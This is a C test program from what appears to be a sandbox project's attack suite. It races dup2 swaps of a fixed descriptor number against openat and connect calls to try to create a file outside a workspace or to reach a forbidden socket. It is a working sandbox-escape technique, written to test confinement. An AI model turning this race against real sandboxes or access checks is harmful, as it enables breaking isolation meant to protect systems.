// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

// fd_reuse: attacks whoever takes a descriptor number from a call that waits, and looks
// it up in the program later. One thread replaces what the number stands for, by dup2
// between a folder inside and one outside and between two sockets, while another one
// uses it. Winning: a file outside, or a connection to the forbidden socket, which
// answers "secret". Bound: 2 seconds.
//
// usage: fd_reuse WORKSPACE OUTSIDE [OWN_SOCKET FORBIDDEN_SOCKET]

#include "attack.h"

enum { FOLDER = 100, SOCKET = 101 };
static int folders[2];

static void *replace(void *arg) {
	(void)arg;
	for (int i = 0; in_time(); i ^= 1) {
		dup2(folders[i], FOLDER);
		int s = socket(AF_UNIX, i ? SOCK_STREAM : SOCK_SEQPACKET, 0);
		if (s >= 0) {
			dup2(s, SOCKET);
			close(s);
		}
		if (i)
			close(SOCKET);
	}
	return 0;
}

static int told_secret(int fd) {
	char b[16] = {0};
	return recv(fd, b, sizeof b - 1, MSG_DONTWAIT) > 0 && strncmp(b, "secret", 6) == 0;
}

int main(int argc, char **argv) {
	if ((argc != 3 && argc != 5) || (argc == 5 && serve_own(argv[3]) != 0))
		return 2;
	folders[0] = open(argv[1], O_PATH | O_DIRECTORY);
	folders[1] = open(argv[2], O_PATH | O_DIRECTORY);
	if (folders[0] < 0 || folders[1] < 0)
		return 2;
	dup2(folders[0], FOLDER);
	char evil[4300];
	path2(evil, sizeof evil, argv[2], "won-fd-reuse");
	begin();
	guard();
	pthread_t t;
	pthread_create(&t, 0, replace, 0);
	long tries = 0;
	int won = 0;
	for (; !won && in_time(); tries++) {
		int fd = openat(FOLDER, "won-fd-reuse", O_CREAT | O_WRONLY, 0600);
		if (fd >= 0)
			close(fd);
		struct stat st;
		won = lstat(evil, &st) == 0;
		if (argc == 5) {
			struct sockaddr_un a;
			unix_address(&a, argv[3 + tries % 2]);
			if (connect(SOCKET, (struct sockaddr *)&a, sizeof a) == 0 && told_secret(SOCKET))
				won = 1;
		}
	}
	verdict(won, tries, "fd-reuse");
}
